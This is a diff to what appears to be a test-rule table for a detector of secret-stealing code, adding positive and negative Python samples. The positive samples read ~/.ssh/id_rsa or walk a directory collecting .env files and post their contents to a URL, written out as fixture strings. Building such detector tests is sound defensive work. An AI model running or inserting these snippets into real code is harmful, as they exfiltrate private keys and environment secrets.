@@ -70,9 +70,28 @@ RULES = [
                 "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                 f"    requests.post({URL!r}, data=key)\n"
             ),
+            # Files a walk finds by a credential file's name, read (a failed read leaves
+            # an empty table) and sent.
+            positive(
+                "import os, requests\ndef f(root):\n    found = {}\n"
+                "    for folder, _, names in os.walk(root):\n        for name in names:\n"
+                "            if name == '.env' or name.endswith('.env'):\n"
+                "                try:\n"
+                "                    text = open(os.path.join(folder, name)).read()\n"
+                "                except OSError:\n                    text = ''\n"
+                "                found[name] = text\n"
+                f"    requests.post({URL!r}, json=found)\n"
+            ),
             negative(
                 "import requests\ndef f():\n    cfg = open('config.json').read()\n"
                 f"    requests.post({URL!r}, data=cfg)\n"
+            ),
+            negative(
+                "import os, requests\ndef f(root):\n    found = {}\n"
+                "    for folder, _, names in os.walk(root):\n        for name in names:\n"
+                "            if name.endswith('.json'):\n"
+                "                found[name] = open(os.path.join(folder, name)).read()\n"
+                f"    requests.post({URL!r}, json=found)\n"
             ),
         ),
         when=(Fact.SECRET_SENT, Fact.SECRET_ENV_SENT, Fact.STEALER_TEXT),
